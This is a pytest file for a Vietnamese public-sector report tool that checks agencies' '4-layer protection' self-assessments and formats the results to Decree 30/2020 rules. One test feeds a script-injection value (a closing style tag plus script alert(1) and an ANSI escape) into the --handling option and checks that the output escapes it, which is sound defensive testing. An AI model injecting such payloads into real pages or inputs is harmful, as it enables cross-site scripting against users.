        assert left == [first] + ([second] if second else [])
        assert doc.tables[0].rows[1].cells[0].text == number
        assert doc.tables[0].rows[1].cells[1].text.endswith("ngày 15 tháng 12 năm 2026")
        assert authority in all_text(doc)


def test_the_round_in_the_workbook_and_the_report(tmp_path):
    """--roster, a duplicate attachment and --since: the workbook's submissions sheet and
    section III.5 of the report say who did not submit, which file was not counted, which is old."""
    import shutil as copying

    from conftest import run_cli

    folder = tmp_path / "round"
    files = write_agencies(folder, 5, seed=21)
    copying.copy(files[0], files[0].with_name(files[0].stem + " (1).yaml"))  # the same file attached twice
    text = files[1].read_text(encoding="utf-8").replace("assessed_on: 2026-09-30", "assessed_on: 2026-03-31")
    files[1].write_text(text, encoding="utf-8")
    roster = tmp_path / "danh-sach.csv"
    names = [
        (
            p.read_text(encoding="utf-8").split('  code: "', 1)[1].split('"', 1)[0],
            p.read_text(encoding="utf-8").split('  name: "', 1)[1].split('"', 1)[0],
        )
        for p in files
    ]
    roster.write_text("code,name\n" + "".join(f"{c},{n}\n" for c, n in names) + ",UBND xã Chưa Nộp\n", encoding="utf-8")
    common = ["audit", folder, "--as-of", AS_OF.isoformat(), "--roster", roster, "--since", "2026-07-01"]
    book_file, report_file = tmp_path / "r.xlsx", tmp_path / "r.docx"
    for fmt, path in (("xlsx", book_file), ("docx", report_file)):
        result = run_cli([*common, "--format", fmt, "-o", path])
        assert result.exit_code in (0, 1), result.stderr
    book = openpyxl.load_workbook(book_file)
    rows = sheet_rows(book["Nộp báo cáo"])
    statuses = [(row["Tình trạng"], row["Cơ quan"]) for row in rows]
    assert ("Chưa nộp", "UBND xã Chưa Nộp") in statuses
    assert [r["Tệp"] for r in rows if r["Tình trạng"] == "Nộp trùng (cùng nội dung)"] == [
        str(files[0].with_name(files[0].stem + " (1).yaml"))
    ]
    assert [r["Cơ quan"] for r in rows if r["Tình trạng"] == "Bản tự đánh giá cũ"] == [names[1][1]]
    assert len(sheet_rows(book["Xếp hạng cơ quan"])) == 5, "the duplicate is not ranked"
    summary = {row["Nội dung"]: row["Giá trị"] for row in sheet_rows(book["Tổng hợp"])}
    assert summary["Số cơ quan chưa nộp (theo danh sách)"] == 1 and summary["Số tệp nộp trùng (không tính)"] == 1
    content = all_text(docx.Document(str(report_file)))
    assert "- UBND xã Chưa Nộp: chưa nộp bản tự đánh giá." in content
    assert "1 tệp nộp trùng" in content and "lập trước ngày 01/07/2026" in content
    assert "Đề nghị 1 cơ quan chưa nộp" in content


def test_check_report_of_two_checklist_versions_has_one_part_per_agency(tmp_path):
    from conftest import ROOT, run_cli

    target = tmp_path / "hai-co-quan.docx"
    result = run_cli(
        [
            "check",
            ROOT / "tests" / "data" / "v1-examples" / "so-y-te-nghe-an.yaml",
            ROOT / "examples" / "xa-hung-dong.yaml",
            "--format",
            "docx",
            "-o",
            target,
        ]
    )
    assert result.exit_code in (0, 1), result.stderr
    paragraphs = [p.text for p in docx.Document(str(target)).paragraphs]
    assert [p for p in paragraphs if p.startswith("PHẦN ")] == [
        "PHẦN 1. Sở Y tế tỉnh Nghệ An",
        "PHẦN 2. Ủy ban nhân dân xã Hưng Đông",
    ]
    general = [p for p in paragraphs if p.startswith("Cơ quan: ")]
    assert "phiên bản 1)" in general[0] and "phiên bản 3)" in general[1]


# --- settings without YAML, and every write confirmed -------------------------------------------
SO_OPTIONS = [
    *so_header("05/02/2027"),
    "--recipient",
    "Như trên",
    "--archive",
    "VT, KHTC",
    "--report-number",
    "12",
    "--subject",
    "Kết quả tự đánh giá quý IV năm 2026",
]


def test_a_so_s_header_and_signature_from_options_alone(tmp_path):
    from conftest import ROOT, run_cli

    target = tmp_path / "bao-cao.docx"
    result = run_cli(
        [
            "check",
            ROOT / "examples" / "so-y-te-nghe-an.yaml",
            "--as-of",
            AS_OF.isoformat(),
            "--format",
            "docx",
            "-o",
            target,
            *SO_OPTIONS,
        ]
    )
    assert result.exit_code in (0, 1), result.stderr
    doc = docx.Document(str(target))
    header = doc.tables[0]
    left = [p.text for p in header.rows[0].cells[0].paragraphs if p.text]
    assert left == ["UBND TỈNH HÀ TĨNH", "SỞ Y TẾ"]
    assert header.rows[1].cells[0].text == "Số: 12/BC-SYT"
    assert header.rows[1].cells[1].text == "Hà Tĩnh, ngày 05 tháng 02 năm 2027"  # Decree 30: 05, 02
    content = all_text(doc)
    for expected in (
        "Kính gửi: Sở Khoa học và Công nghệ tỉnh Hà Tĩnh.",
        "KT. GIÁM ĐỐC",
        "PHÓ GIÁM ĐỐC",
        "Nguyễn Văn An",
        "- Như trên;",
        "- Lưu: VT, KHTC.",
        "Kết quả tự đánh giá quý IV năm 2026",
    ):
        assert expected in content, expected


@pytest.mark.parametrize(
    ("given", "expected"),
    [("SYT", "SYT"), ("/BC-SYT", "SYT"), ("BC-SYT", "SYT"), (" /bc-SKHCN ", "SKHCN"), ("", None), ("/BC-", None)],
)
def test_the_symbol_is_taken_however_the_officer_writes_it(given, expected):
    from fourlayer.reporting.office.official import symbol_of

    assert symbol_of(given) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("15/12/2026", date(2026, 12, 15)),
        ("2026-12-15", date(2026, 12, 15)),
        ("5/2/2027", date(2027, 2, 5)),
        ("31/9/2026", None),
        ("hôm nay", None),
    ],
)
def test_report_date_is_read_as_officials_write_it(province, tmp_path, value, expected):
    from conftest import run_cli

    one = sorted(province.rglob("0*.yaml"))[0]
    target = tmp_path / "x.docx"
    result = run_cli(
        [
            "check",
            one,
            "--as-of",
            AS_OF.isoformat(),
            "--format",
            "docx",
            "-o",
            target,
            "--report-date",
            value,
            "--place",
            "Vinh",
        ]
    )
    if expected is None:
        assert result.exit_code == 2 and f'--report-date "{value}"' in result.stderr and not target.exists()
        assert "Traceback" not in result.stderr
        return
    assert result.exit_code in (0, 1), result.stderr
    day, month = (
        f"{expected.day:02d}" if expected.day < 10 else str(expected.day),
        f"{expected.month:02d}" if expected.month < 3 else str(expected.month),
    )
    assert f"Vinh, ngày {day} tháng {month} năm {expected.year}" in all_text(docx.Document(str(target)))


@pytest.mark.parametrize(("name", "lang"), [("bao-cao.toml", "vi"), ("bao-cao.yaml", "vi"), ("report.toml", "en")])
def test_report_settings_writes_a_commented_file_that_reads_back(tmp_path, name, lang):
    from conftest import run_cli

    target = tmp_path / name
    result = run_cli(["report-settings", "-o", target, "--lang", lang])
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "" and str(target) in result.stderr
    written = target.read_text(encoding="utf-8")
    assert written.startswith("# ") and "30/2020/NĐ-CP" in written
    if lang == "vi":
        for words in (
            "Cơ quan chủ quản",
            'Sở: "UBND tỉnh Hà Tĩnh"',
            "Xã: để trống",
            "KT. Giám đốc",
            "TM. Ủy ban nhân dân",
            '"15/12/2026"',
        ):
            assert words in written, words
    loaded = load_report_settings(str(target))
    assert loaded.findings == () and loaded.settings == ReportSettings(), "empty as written: every field a blank"
    fields = [line.split()[0].rstrip(":") for line in written.splitlines() if line and not line.startswith("#")]
    assert fields == [
        "issuing_parent",
        "issuing_body",
        "symbol",
        "number",
        "place",
        "date",
        "superior_body",
        "subject",
        "signer_authority",
        "signer_title",
        "signer_name",
        "recipients",
        "archive",
        "handling",
        *YEARLY_FIELDS,
    ]
    again = run_cli(["report-settings", "-o", target])
    assert again.exit_code == 2 and "--force" in again.stderr and target.read_text(encoding="utf-8") == written


def test_a_filled_in_settings_file_makes_the_header(tmp_path):
    from conftest import ROOT, run_cli

    settings = tmp_path / "bao-cao.toml"
    assert run_cli(["report-settings", "-o", settings]).exit_code == 0
    text = settings.read_text(encoding="utf-8")
    for key, value in (
        ("issuing_body", "Ủy ban nhân dân xã Kỳ Anh"),
        ("symbol", "UBND"),
        ("place", "Kỳ Anh"),
        ("date", "15/12/2026"),
        ("signer_authority", "TM. Ủy ban nhân dân"),
        ("signer_title", "Chủ tịch"),
        ("signer_name", "Lê Văn Cường"),
    ):
        text = text.replace(f'{key} = ""', f'{key} = "{value}"')
    settings.write_text(text.replace("recipients = []", 'recipients = ["Như trên"]'), encoding="utf-8")
    target = tmp_path / "xa.docx"
    result = run_cli(
        [
            "check",
            ROOT / "examples" / "xa-hung-dong.yaml",
            "--as-of",
            AS_OF.isoformat(),
            "--format",
            "docx",
            "-o",
            target,
            "--report-settings",
            settings,
        ]
    )
    assert result.exit_code in (0, 1), result.stderr
    doc = docx.Document(str(target))
    assert [p.text for p in doc.tables[0].rows[0].cells[0].paragraphs if p.text] == ["ỦY BAN NHÂN DÂN XÃ KỲ ANH"]
    assert doc.tables[0].rows[1].cells[0].text == "Số: …………/BC-UBND"
    content = all_text(doc)
    for expected in ("Kỳ Anh, ngày 15 tháng 12 năm 2026", "TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH", "Lê Văn Cường"):
        assert expected in content, expected


@pytest.mark.parametrize("command", ["check", "audit", "history"])
def test_every_write_is_confirmed_on_stderr_and_stdout_stays_clean(province, tmp_path, command):
    from conftest import run_cli

    one = sorted(province.rglob("0*.yaml"))[0]
    target = tmp_path / "out.json"
    if command == "history":
        store = tmp_path / "lich-su.sqlite"
        assert run_cli(["audit", one, "--as-of", AS_OF.isoformat(), "--record", store, "--round", "Q4"]).exit_code in (
            0,
            1,
        )
        args = ["history", store, "--format", "json"]
    else:
        args = [command, one, "--as-of", AS_OF.isoformat(), "--format", "json", "--fail-on", "partial"]
    result = run_cli([*args, "-o", target])
    assert result.stdout == "" and target.exists()
    lines = result.stderr.strip().splitlines()
    assert lines[-1].startswith(f"Đã ghi {target}."), result.stderr
    if result.exit_code == 1:  # the verdict, not the write
        assert "Mã thoát 1 là kết quả đánh giá" in lines[-1] and "không phải lỗi khi ghi tệp" in lines[-1]
    else:
        assert lines[-1] == f"Đã ghi {target}."
    english = run_cli([*args, "-o", target, "--lang", "en"])
    assert english.stderr.strip().splitlines()[-1].startswith(f"Wrote {target}.")
    piped = run_cli(args)
    assert "Đã ghi" not in piped.stderr and piped.stdout.startswith("{")


def test_a_non_compliant_verdict_says_the_file_was_written(province, tmp_path):
    from conftest import run_cli

    target = tmp_path / "ra-soat.docx"
    result = run_cli(["audit", province, "--as-of", AS_OF.isoformat(), "--format", "docx", "-o", target])
    assert result.exit_code == 1 and target.exists()
    assert result.stderr.strip().splitlines()[-1] == (
        f"Đã ghi {target}. Mã thoát 1 là kết quả đánh giá (có kết luận chưa đạt theo --fail-on, hoặc tệp không "
        "đánh giá được), không phải lỗi khi ghi tệp."
    )
    quiet = run_cli(
        [
            "check",
            sorted(province.rglob("0*.yaml"))[0],
            "--as-of",
            AS_OF.isoformat(),
            "--quiet",
            "--format",
            "json",
            "-o",
            tmp_path / "q.json",
        ]
    )
    assert "Đã ghi" not in quiet.stderr


def test_the_header_column_holds_the_national_name_with_five_millimetres_to_spare():
    """In Times New Roman metrics (Adobe's published widths, which the metric-compatible
    Liberation Serif shares); the rendering tests measure the same in LibreOffice's PDF."""
    from fourlayer.i18n import Translator
    from fourlayer.reporting.office.official import HEADER_PT, HEADER_SPARE_MM, HEADER_SPLIT_MM, TEXT_WIDTH_MM
    from fourlayer.reporting.office.type_metrics import width_mm, width_pt

    assert round(width_pt("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", 12, bold=True), 1) == 250.3  # as measured in the trial
    for lang in ("vi", "en"):
        nation = Translator(lang)("office.doc.nation")
        assert width_mm(nation, HEADER_PT, bold=True) + HEADER_SPARE_MM <= HEADER_SPLIT_MM[1]
    assert sum(HEADER_SPLIT_MM) == TEXT_WIDTH_MM
    assert width_mm("SỞ KHOA HỌC VÀ CÔNG NGHỆ", HEADER_PT, bold=True) <= HEADER_SPLIT_MM[0]


def test_rules_under_the_issuing_body_and_the_subject_are_a_third_to_a_half_of_their_line(audit_run, tmp_path):
    from fourlayer.reporting.office.official import HEADER_PT, TITLE_PT
    from fourlayer.reporting.office.type_metrics import width_mm

    doc = document(audit_docx.render(audit_run, ReportOptions(document=SETTINGS)), tmp_path)
    left = doc.tables[0].rows[0].cells[0]
    rule = next(p for p in left.paragraphs if "w:pBdr" in p._p.xml)
    line = width_mm("SỞ KHOA HỌC VÀ CÔNG NGHỆ", HEADER_PT, bold=True)
    column = doc.tables[0].columns[0].width.mm
    length = column - rule.paragraph_format.left_indent.mm - rule.paragraph_format.right_indent.mm
    assert line / 3 <= length <= line / 2
    subject = next(i for i, p in enumerate(doc.paragraphs) if p.text == "BÁO CÁO") + 1
    rule = doc.paragraphs[subject + 1]
    assert "w:pBdr" in rule._p.xml
    words = max(width_mm(part, TITLE_PT, bold=True) for part in doc.paragraphs[subject].text.split("\n"))
    section = doc.sections[0]
    text_width = docx.shared.Length(section.page_width - section.left_margin - section.right_margin).mm
    length = text_width - rule.paragraph_format.left_indent.mm - rule.paragraph_format.right_indent.mm
    assert words / 3 <= length <= words / 2


@pytest.mark.parametrize(
    "subject",
    [
        "Kết quả tự đánh giá việc triển khai mô hình bảo vệ 4 lớp của Sở Y tế tỉnh Hà Tĩnh",
        "Báo cáo ngắn",
        "Một hai ba bốn năm sáu bảy tám chín mười " * 6,
    ],
)
def test_a_long_subject_breaks_into_even_lines_that_fit(subject):
    from fourlayer.reporting.office.official import TEXT_WIDTH_MM, TITLE_PT
    from fourlayer.reporting.office.type_metrics import balanced_lines, width_mm

    lines = balanced_lines(subject.strip(), TITLE_PT, TEXT_WIDTH_MM, bold=True)
    assert " ".join(lines) == " ".join(subject.split())
    widths = [width_mm(line, TITLE_PT, bold=True) for line in lines]
    assert max(widths) <= TEXT_WIDTH_MM
    if len(lines) > 1:
        assert min(widths) >= max(widths) / 2, "no word left alone on a line"


def test_a_long_issuing_body_is_set_in_even_lines_within_its_column(check_run, tmp_path):
    from fourlayer.reporting.office.official import HEADER_PT, HEADER_SPLIT_MM
    from fourlayer.reporting.office.type_metrics import width_mm

    body = "Trung tâm Công nghệ thông tin và Truyền thông tỉnh Hà Tĩnh"
    settings = ReportSettings(issuing_parent="Sở Khoa học và Công nghệ tỉnh Hà Tĩnh", issuing_body=body)
    doc = document(check_docx.render(check_run, ReportOptions(document=settings)), tmp_path)
    parent, issuer = [p.text.split("\n") for p in doc.tables[0].rows[0].cells[0].paragraphs if p.text]
    assert " ".join(issuer) == body.upper() and len(issuer) >= 2
    for lines, bold in ((parent, False), (issuer, True)):
        widths = [width_mm(line, HEADER_PT, bold=bold) for line in lines]
        assert max(widths) <= HEADER_SPLIT_MM[0] and (len(lines) == 1 or min(widths) >= max(widths) / 2)


def test_every_part_of_the_form_has_the_decree_s_size_and_style(audit_run, tmp_path):
    """Decree 30/2020, Appendix I, Part I, II and V: size (pt), bold, italic of each element."""
    doc = document(audit_docx.render(audit_run, ReportOptions(document=SETTINGS)), tmp_path)

    def style(text: str, paragraphs) -> tuple[float, bool, bool]:
        run = next(r for p in paragraphs for r in p.runs if r.text == text)
        return run.font.size.pt, bool(run.bold), bool(run.italic)

    header = doc.tables[0]
    left, right = header.rows[0].cells
    number, dated = header.rows[1].cells
    assert style("UBND TỈNH NGHỆ AN", left.paragraphs) == (12, False, False)
    assert style("SỞ KHOA HỌC VÀ CÔNG NGHỆ", left.paragraphs) == (12, True, False)
    assert style("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", right.paragraphs) == (12, True, False)
    assert style("Độc lập - Tự do - Hạnh phúc", right.paragraphs) == (13, True, False)
    assert style("Số: 125/BC-SKHCN", number.paragraphs) == (13, False, False)
    assert style("Nghệ An, ngày 20 tháng 10 năm 2026", dated.paragraphs) == (13, False, True)
    assert style("BÁO CÁO", doc.paragraphs) == (14, True, False)
    assert style("Kính gửi: Ủy ban nhân dân tỉnh Nghệ An.", doc.paragraphs)[:2] == (14, False)
    recipients, signature = doc.tables[-1].rows[0].cells
    assert style("Nơi nhận:", recipients.paragraphs) == (12, True, True)
    assert style("- Lưu: VT, CNTT.", recipients.paragraphs) == (11, False, False)
    assert style("KT. GIÁM ĐỐC", signature.paragraphs) == (13, True, False)
    assert style("PHÓ GIÁM ĐỐC", signature.paragraphs) == (13, True, False)
    assert style("Nguyễn Văn An", signature.paragraphs) == (13, True, False)
    body = [p for p in doc.paragraphs if p.text.startswith("Trên đây là báo cáo")]
    assert (
        body and body[0].alignment == 3 and body[0].paragraph_format.first_line_indent.mm == pytest.approx(10, abs=0.01)
    )
    assert body[0].paragraph_format.keep_with_next, "the closing sentence is kept with the signature"
    assert doc.tables[-1].rows[0]._tr.trPr.xml.count("cantSplit") == 1


@pytest.mark.parametrize(
    ("given", "expected"),
    [("5", "05"), ("05", "05"), ("0", "0"), ("12", "12"), ("125", "125"), ("12a", "12a"), (" ", None), (None, None)],
)
def test_a_number_below_ten_has_a_leading_zero(given, expected):
    from fourlayer.reporting.office.official import number_of

    assert number_of(given) == expected


@pytest.mark.parametrize("version", ["1", "2", "3"])
@pytest.mark.parametrize("lang", ["vi", "en"])
def test_the_plan_says_what_to_do_without_the_words_of_the_file(version, lang):
    """§IV of the check report: each control's guidance without its evidence list and
    without the sentences on filling in the file (``no_event: true``, ``"partial"`` with
    ``due``); every other sentence kept, in its order."""
    import re

    from fourlayer.i18n import Translator
    from fourlayer.reporting.check.docx import SENTENCE_END, action

    loaded = load_checklist(None, version).checklist
    assert loaded is not None
    t = Translator(lang)
    file_words = re.compile(
        r"\b[a-z]+_[a-z_]+\b|\"(implemented|partial|not_implemented|not_applicable)\"|"
        r"\b(status|evidence|note|ref|due):" + (r"|\bdue\b" if lang == "vi" else "")
    )
    for control in loaded.controls:
        guidance = control.guidance.get(lang)
        said = action(guidance, t)
        assert said and not file_words.search(said), (control.id, said)
        head = guidance.split(" Bằng chứng:" if lang == "vi" else " Evidence:", 1)[0]
        sentences = SENTENCE_END.split(head)
        assert said == " ".join(x for x in sentences if not file_words.search(x)) or said == head, control.id


# --- the handling line (issue 26): --handling and the settings file's handling -----------------
HANDLED_FORMATS = ("docx", "form08", "html", "xlsx", "form08-xlsx")


def _report(tmp_path: Path, fmt: str, name: str, *extra: object) -> bytes:
    from conftest import ROOT, run_cli

    target = tmp_path / name
    done = run_cli(
        [
            "check",
            ROOT / "examples" / "so-y-te-nghe-an.yaml",
            "--as-of",
            "2026-12-07",
            "--format",
            fmt,
            "-o",
            target,
            *extra,
        ]
    )
    assert done.exit_code in (0, 1), done.stderr
    return target.read_bytes()


@pytest.mark.parametrize("fmt", HANDLED_FORMATS)
def test_without_a_handling_line_a_report_is_the_same_bytes_and_holds_no_trace_of_one(tmp_path, fmt):
    empty = tmp_path / "empty.toml"
    empty.write_text('handling = ""\n', encoding="utf-8")
    plain = _report(tmp_path, fmt, "plain")
    assert _report(tmp_path, fmt, "empty", "--report-settings", empty) == plain
    assert _report(tmp_path, fmt, "blank", "--handling", "") == plain
    marked = _report(tmp_path, fmt, "marked", "--handling", "Tài liệu lưu hành nội bộ")
    assert marked != plain
    if fmt == "html":
        assert b'class="handling"' not in plain and b"@top-center" not in plain
        assert "TÀI LIỆU LƯU HÀNH NỘI BỘ".encode() in marked
    else:
        with zipfile.ZipFile(io.BytesIO(plain)) as book:
            assert not [n for n in book.namelist() if "footer" in n]
            parts = "".join(book.read(n).decode("utf-8", "replace") for n in book.namelist() if n.endswith(".xml"))
        assert "oddHeader" not in parts and "oddFooter" not in parts and "LƯU HÀNH" not in parts


def test_the_handling_line_is_text_in_every_format(tmp_path):
    hostile = '</style><script>alert(1)</script> & "Mật" \x1b[31m'
    page = _report(tmp_path, "html", "page", "--handling", hostile).decode("utf-8")
    assert "<script>" not in page and "</style><" not in page.split("</style>", 1)[0]
    assert page.count("</style>") == 1
    assert "&lt;/STYLE&gt;&lt;SCRIPT&gt;" in page and "\\X1B[31M" in page
    book = _report(tmp_path, "xlsx", "book", "--handling", "Sở A & B")
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:  # & is Excel's code mark: doubled, so it prints as itself
            assert '<oddHeader>&amp;C&amp;"-,Bold"SỞ A &amp;&amp; B</oddHeader>' in archive.read(name).decode()
    letter = docx.Document(io.BytesIO(_report(tmp_path, "docx", "letter", "--handling", "Sở A & B")))
    section = letter.sections[0]
    for footer in (section.first_page_footer, section.footer):
        assert [p.text for p in footer.paragraphs] == ["SỞ A & B"]


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        (["--format", "json", "--handling", "Mật"], "--handling"),
        (["--format", "html", "--subject", "x"], "--report-settings"),
        (["--format", "html", "--handling", "a" * 101], "100"),
        (["--format", "docx", "--handling", "a\nb"], "100"),
    ],
)
def test_the_handling_line_is_refused_where_it_cannot_go(tmp_path, extra, expected):
    from conftest import ROOT, run_cli

    done = run_cli(["check", ROOT / "examples" / "so-y-te-nghe-an.yaml", "-o", tmp_path / "out", *extra])
    assert done.exit_code == 2 and expected in done.stderr, done.stderr
    assert not (tmp_path / "out").exists()


def test_a_handling_line_too_long_in_the_settings_file_is_a_located_finding(tmp_path):
    path = tmp_path / "s.yaml"
    path.write_text("place: Vinh\nhandling: " + "x" * 101 + "\n", encoding="utf-8")
    (problem,) = load_report_settings(str(path)).findings
    assert problem.code == "settings-not-text" and problem.line == 2
    path.write_text("handling: Tài liệu lưu hành nội bộ\n", encoding="utf-8")
    assert load_report_settings(str(path)).settings == ReportSettings(handling="Tài liệu lưu hành nội bộ")
